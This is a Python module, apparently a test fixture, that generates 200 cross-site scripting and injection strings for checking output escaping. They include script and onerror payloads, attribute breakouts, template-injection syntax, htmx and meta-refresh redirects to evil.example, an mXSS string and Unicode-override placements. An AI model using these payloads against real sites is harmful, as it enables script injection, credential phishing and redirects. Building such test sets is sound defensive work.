"""Names and texts that would run a script, break out of an attribute, or hide what stands there."""

from itertools import product

_SCRIPT = "__ran('{n}')"
_SHAPES = (
    "<script>{s}</script>",
    '"><script>{s}</script>',
    "'><img src=x onerror={s}>",
    '" onfocus={s} autofocus x="',
    "' onmouseover={s} '",
    "<svg onload={s}>",
    "</title><script>{s}</script>",
    "</textarea><script>{s}</script>",
    "javascript:{s}",
    "{{{{ {s} }}}}",
    "{{% print({s}) %}}",
    "${{{s}}}",
    "<iframe srcdoc='<script>parent.{s}</script>'>",
    "<a href=javascript:{s}>x</a>",
    '" hx-get="https://evil.example" hx-trigger="load" x="',
    '" hx-on:load="{s}" x="',
    "<style>body{{display:none}}</style>",
    '" style="position:fixed;inset:0" x="',
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "]]><script>{s}</script>",
    "<!--<script>{s}</script>-->",
    "<form action=https://evil.example><button>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    "&lt;script&gt;{s}&lt;/script&gt;",
)
_PLACES = (
    "{}",
    "tenant-{}",
    "  {}  ",
    "{}/../..",
    "\u202e{}\u2066",
    "{}?x=1&y=2#z",
    "%3c{}%22",
    "{}é😀",
)

HOSTILE = [
    place.format(shape.format(s=_SCRIPT.format(n=n), n=n))
    for n, (place, shape) in enumerate(product(_PLACES, _SHAPES))
]
assert len(HOSTILE) == len(set(HOSTILE)) == 200
